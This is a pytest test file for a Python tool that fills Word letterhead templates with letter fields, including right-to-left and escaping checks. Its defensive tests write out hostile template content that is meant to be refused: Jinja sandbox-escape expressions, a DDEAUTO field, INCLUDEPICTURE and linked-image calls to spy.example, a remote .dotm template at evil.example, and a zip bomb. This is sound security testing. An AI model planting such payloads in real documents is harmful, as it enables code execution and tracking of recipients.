"""The office's own letterhead: filled in as it is, and nothing in it can do more than that."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.document import Document as Docx
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn

from mo_registry.documents import invitation, word
from mo_registry.documents.document import Document, Layout
from mo_registry.documents.letter import Letter
from mo_registry.documents.output import Format
from mo_registry.documents.reading import read
from mo_registry.documents.word import letterhead
from mo_registry.finding import RegistryError
from mo_registry.registry import load

LETTER = Letter(
    address=("Die Brücke <Wien> & Söhne", "Weg 1", "1010 WIEN"), sender=("Amt", "Platz 2"), return_line="Amt · Platz 2",
    information=(("Telefon", "0221 1"), ("Datum", "01.09.2023")), closing="Grüße", signature=("A. B.", "Leitung"),
)  # fmt: skip

Make = Callable[[Docx], object]


def saved(folder: Path, make: Make) -> Path:
    """A letterhead in a folder of templates."""
    made = docx.Document()
    make(made)
    made.save(str(folder / "letterhead.docx"))
    return folder / "letterhead.docx"


def usual(made: Docx) -> None:
    made.sections[0].header.paragraphs[0].text = "Kopf: {{ sender }}"
    made.sections[0].footer.paragraphs[0].text = "Fuß: {{ date }}"
    table = made.add_table(1, 2)
    table.cell(0, 0).text = "{{ return_line }}\n{{ address }}"
    table.cell(0, 1).text = "{{ information }}"
    subject = made.add_paragraph(style="Heading 3")
    for piece in ("{{ sub", "ject", " }}!"):
        subject.add_run(piece).italic = True
    made.add_paragraph("{{ body }}", style="Body Text")
    made.add_paragraph("{{ closing }}")
    made.add_paragraph("{{ signature }}")
    made.add_paragraph("{%p if enclosures %}")
    made.add_paragraph("Anlagen: {{ enclosures }}")
    made.add_paragraph("{%p endif %}")
    made.core_properties.subject = "{{ subject }}"


def document(path: Path, markdown: str = "Guten Tag,\n\n1. a\n2. b", **values: Any) -> Document:
    made = Document(
        Layout.LETTER, "Einladung", "de", date(2023, 9, 1), read(markdown), letter=LETTER, letterhead=path
    )
    return replace(made, **values)


def filled(made: Document) -> Docx:
    return docx.Document(io.BytesIO(word.render(made)))


def texts(found: Docx) -> list[tuple[str, str]]:
    return [(str(it.style and it.style.name), it.text) for it in found.paragraphs]


def test_a_letterhead_is_filled_in(tmp_path: Path) -> None:
    found = filled(document(saved(tmp_path, usual)))
    assert texts(found) == [
        ("Heading 3", "Einladung!"),
        ("Body Text", "Guten Tag,"),
        ("List Number", "a"),
        ("List Number", "b"),
        ("Normal", "Grüße"),
        ("Normal", "A. B.\nLeitung"),
    ]
    assert [cell.text for cell in found.tables[0].rows[0].cells] == [
        "Amt · Platz 2\nDie Brücke <Wien> & Söhne\nWeg 1\n1010 WIEN",
        "Telefon\t0221 1\nDatum\t01.09.2023",
    ]
    assert {run.italic for run in found.paragraphs[0].runs} == {True}
    section = found.sections[0]
    assert [section.header.paragraphs[0].text, section.footer.paragraphs[0].text] == [
        "Kopf: Amt\nPlatz 2", "Fuß: 01.09.2023",
    ]  # fmt: skip
    said = found.core_properties
    assert (said.title, said.subject, said.author, said.comments) == ("Einladung", "Einladung", "Amt", "")


def test_what_is_asked_for_with_if_is_there_or_not(tmp_path: Path) -> None:
    path = saved(tmp_path, usual)
    letter = replace(LETTER, enclosures=("Bogen", "Plan"))
    assert ("Normal", "Anlagen: Bogen\nPlan") in texts(filled(document(path, letter=letter)))


def test_lists_and_styles_that_the_letterhead_lacks_are_brought_along(tmp_path: Path) -> None:
    def bare(made: Docx) -> None:
        made.add_paragraph("{{ body }}")
        styles: Any = made.styles.element
        for style in list(styles.style_lst):
            if style.name_val not in ("Normal", "Default Paragraph Font"):
                styles.remove(style)
        styles.style_lst[0].styleId = "Standard"  # as German Word calls it
        made.part.drop_rel(
            next(k for k, it in made.part.rels.items() if it.reltype == RELATIONSHIP_TYPE.NUMBERING)
        )

    markdown = "## A\n\n1. b\n\nc\n\n1. d\n   - e\n\n| F | G |\n|---|---|\n| h | [i](https://x.example) |"
    found = filled(document(saved(tmp_path, bare), markdown))
    assert texts(found) == [
        ("Heading 1", "A"), ("List Number", "b"), ("Normal", "c"), ("List Number", "d"), ("List Bullet", "e"),
        ("Table Text", ""),
    ]  # fmt: skip
    bases = {
        it.name: it.base_style and it.base_style.style_id for it in found.styles if hasattr(it, "base_style")
    }
    assert (bases["Heading 1"], bases["Heading 3"]) == ("Standard", "Heading2")
    lists = found.element.body.xpath(".//w:numId/@w:val")
    assert len(set(lists)) == 3
    assert [run.font.name for run in found.paragraphs[2].runs] == [None]  # in the office's own font


def test_their_lists_go_on_as_they_are(tmp_path: Path) -> None:
    def with_list(made: Docx) -> None:
        made.add_paragraph("Hausordnung", style="List Number")
        made.add_paragraph("{{ body }}")

    path = saved(tmp_path, with_list)
    before = docx.Document(str(path)).part.numbering_part.element
    numbering = filled(document(path)).part.numbering_part.element
    kinds = [child.tag.rpartition("}")[2] for child in numbering]
    assert kinds == sorted(kinds)  # every w:abstractNum before every w:num
    ids = numbering.xpath("./w:abstractNum/@w:abstractNumId")
    assert len(set(ids)) == len(ids) == len(before.xpath("./w:abstractNum")) + 2


def test_an_arabic_letter_turns_its_own_lines_and_leaves_the_address(tmp_path: Path) -> None:
    letter = replace(LETTER, address=("جمعية الجسر", "Weg 1", "01069 Ort"), closing="تحيات")
    made = document(
        saved(tmp_path, usual), "نص", letter=letter, title="دعوة Haus", language="ar", direction="rtl"
    )
    found = filled(made)
    turned = {it.text: bool(it._p.xpath("./w:pPr/w:bidi")) for it in found.paragraphs}
    assert turned == {
        "\u2067دعوة Haus\u2069!": True,
        "نص": True,
        "تحيات": True,
        "\u2066A. B.\u2069\n\u2066Leitung\u2069": True,
    }
    (address,) = (it for it in found.tables[0].cell(0, 0).paragraphs if "Weg" in it.text)
    assert address.text.split("\n")[-3:] == ["\u2067جمعية الجسر\u2069", "Weg 1", "01069 Ort"]
    assert not address._p.xpath("./w:pPr/w:bidi")
    (backwards,) = address._p.xpath("./w:r[w:rPr/w:rtl]")
    assert backwards.text == "\u2067جمعية الجسر\u2069"
    subject = [(it.text, it.italic, bool(it._r.xpath("./w:rPr/w:rtl"))) for it in found.paragraphs[0].runs]
    assert subject == [
        ("\u2067دعوة ", True, True), ("Haus", True, False), ("\u2069", True, True), ("!", True, True),
    ]  # fmt: skip


@pytest.mark.parametrize(
    "name",
    ["{{ subject }}", "{% for %}", "{_{ x }_}", "<w:p/>", "</w:t>", "&amp; & &#x26;", "*a* #b", "=cmd", "a\x0bb", "\ufdd00:1\ufdd1",
     "Zeile\nzwei", "a\tb"],
)  # fmt: skip
def test_values_come_out_as_they_are(tmp_path: Path, name: str) -> None:
    letter = replace(LETTER, address=(name,), sender=(name,), signature=(name,))
    found = filled(document(saved(tmp_path, usual), title=name, letter=letter))
    wanted = "".join("\ufffd" if it in "\x0b\ufdd0\ufdd1" else it for it in name)
    assert found.paragraphs[0].text == f"{wanted}!"
    assert found.tables[0].cell(0, 0).text == f"Amt · Platz 2\n{wanted}"
    assert found.sections[0].header.paragraphs[0].text == f"Kopf: {wanted}"
    assert texts(found)[-1] == ("Normal", wanted)


def test_a_description_of_a_picture_may_hold_a_field(tmp_path: Path) -> None:
    def described(made: Docx) -> None:
        made.add_paragraph("{{ body }}")

        def chunk(kind: bytes, data: bytes) -> bytes:
            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

        size = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
        parts = (chunk(b"IHDR", size), chunk(b"IDAT", zlib.compress(b"\0\0")), chunk(b"IEND", b""))
        pixel = b"\x89PNG\r\n\x1a\n" + b"".join(parts)
        made.add_picture(io.BytesIO(pixel))
        made.element.body.xpath(".//wp:docPr")[0].set("descr", "Wappen: {{ subject }}")

    found = filled(document(saved(tmp_path, described), title='A "b" <c>'))
    assert found.element.body.xpath(".//wp:docPr/@descr") == ['Wappen: A "b" <c>']


def refused(path: Path, **values: Any) -> tuple[str, str | None]:
    with pytest.raises(RegistryError) as problem:
        word.render(document(path, **values))
    return problem.value.message, problem.value.hint


KNOWN = (
    "There are: sender, return_line, address, information, subject, date, body, closing, signature, enclosures, copies, "
    "notice."
)


@pytest.mark.parametrize(
    ("lines", "message", "hint"),
    [
        (["{{ body }}", "{{ adress }}"], "there is no field “adress”", KNOWN),
        (["{{ body }}", "{{ address.city }}"], "a plain text or list has no field “city”", None),
        (["{{ subject }}"], "there is no place for the text of the letter", "Write {{ body }} into a paragraph of its own."),
        (
            ["Text: {{ body }}"],
            "a field stands where no text can be",
            "Write fields into the text; {{ body }} into a paragraph of its own, not into header or footer.",
        ),
        (["{{ body }}", "{%p if subject %}", "x"], "what begins with “{% if subject %}” has no end", "“{% endif %}” is missing behind it"),
        (["{{ body }}", "{{ (subject }}"], "a “)” is missing in “{{ (subject }}”", None),
        (["{{ body }}", "{{ subject / 0 }}"], "“/” is for numbers only", None),
        (
            ["{{ body }}", "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}"],
            "the template does more than any document needs, as a loop without an end would",
            None,
        ),
    ],
)  # fmt: skip
def test_mistakes_are_told(tmp_path: Path, lines: list[str], message: str, hint: str | None) -> None:
    path = saved(tmp_path, lambda made: [made.add_paragraph(line) for line in lines])
    assert refused(path) == (f"templates/letterhead.docx: {message}.", hint)


@pytest.mark.parametrize(
    "code", ["{{ ''.__class__.__mro__ }}", "{{ address.__init__ }}", "{{ cycler.__init__ }}", "{{ self }}"]
)
def test_there_is_no_way_out_of_the_sandbox(tmp_path: Path, code: str) -> None:
    path = saved(tmp_path, lambda made: [made.add_paragraph(line) for line in ("{{ body }}", code)])
    assert refused(path)[0].startswith("templates/letterhead.docx: ")


def body_in_header(made: Docx) -> None:
    made.sections[0].header.paragraphs[0].text = "{{ body }}"


def linked_picture(made: Docx) -> None:
    made.part.relate_to("https://spy.example/x.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)


def attached_template(made: Docx) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    settings: Any = made.settings
    settings._settings  # noqa: B018
    made.part._settings_part.relate_to("https://evil.example/x.dotm", kind, is_external=True)


def dde(made: Docx) -> None:
    paragraph = made.add_paragraph()
    for piece in (" DDE", "AUTO c:\\\\x.exe "):
        code = docx.oxml.OxmlElement("w:instrText")
        code.text = piece
        paragraph.add_run()._r.append(code)


def included_picture(made: Docx) -> None:
    field = docx.oxml.OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), ' INCLUDEPICTURE "https://spy.example" ')
    made.add_paragraph()._p.append(field)


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (body_in_header, "a field stands where no text can be"),
        (linked_picture, "it holds or loads something else (image)"),
        (attached_template, "it holds or loads something else (attachedTemplate)"),
        (dde, "it has a field “DDEAUTO” of Word's"),
        (included_picture, "it has a field “INCLUDEPICTURE” of Word's"),
    ],
)
def test_what_would_load_or_run_something_is_refused(tmp_path: Path, make: Make, message: str) -> None:
    def made(found: Docx) -> None:
        found.add_paragraph("{{ body }}")
        make(found)

    assert refused(saved(tmp_path, made))[0] == f"templates/letterhead.docx: {message}."


def test_a_link_is_no_danger(tmp_path: Path) -> None:
    def linked(made: Docx) -> None:
        made.add_paragraph("{{ body }}")
        made.part.relate_to("https://amt.example", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)

    assert texts(filled(document(saved(tmp_path, linked))))[0] == ("Normal", "Guten Tag,")


@pytest.mark.parametrize("content", [b"", b"no archive", b"PK\x03\x04"])
def test_a_file_that_is_none_of_words(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "letterhead.docx"
    path.write_bytes(content)
    assert refused(path)[0] == "templates/letterhead.docx: it is no Word file that can be used."


def test_an_archive_of_something_else(tmp_path: Path) -> None:
    path = tmp_path / "letterhead.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x", "y")
    assert refused(path)[0] == "templates/letterhead.docx: it is no Word file that can be used."


def test_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    path = saved(tmp_path, usual)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/x.bin", bytes(letterhead.MAX_UNPACKED))
    assert refused(path)[0] == "templates/letterhead.docx: it is too large for a letterhead."


def test_too_many_braces_to_be_meant(tmp_path: Path) -> None:
    path = saved(tmp_path, lambda made: made.add_paragraph("{{p " * letterhead.MAX_BRACES))
    assert refused(path)[0] == "templates/letterhead.docx: it is too large for a letterhead."


def test_the_same_bytes_at_another_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = document(saved(tmp_path, usual))
    first = word.render(made)
    later = time.struct_time((2031, 2, 3, 4, 5, 6, 0, 34, 0))
    monkeypatch.setattr(time, "localtime", lambda *_seconds: later)
    assert word.render(made) == first


def test_invitations_use_it(root: Path) -> None:
    (root / "templates").mkdir()
    saved(root / "templates", usual)
    registry = load(root)
    made = invitation.make(registry, registry.events["2023-10-13-fachtag"], [Format.WORD])
    found = docx.Document(io.BytesIO(made.files[-1].content))
    assert texts(found)[0] == ("Heading 3", "Neuer Termin: Vereine und Ämter am Freitag, 13. Oktober 2023!")
    assert "Verband der Vereine Musterstadt e.V.\nHerrn Jan Özer" in found.tables[0].cell(0, 0).text


def test_a_link_out_of_the_templates_is_not_followed(root: Path, tmp_path: Path) -> None:
    (root / "templates").mkdir()
    outside = saved(tmp_path, usual)
    try:
        (root / "templates" / "letterhead.docx").symlink_to(outside)
    except OSError:
        pytest.skip("making links needs a privilege here")
    registry = load(root)
    with pytest.raises(RegistryError, match=r"leads out of the folder of templates"):
        invitation.make(registry, registry.events["2023-10-13-fachtag"], [Format.WORD])
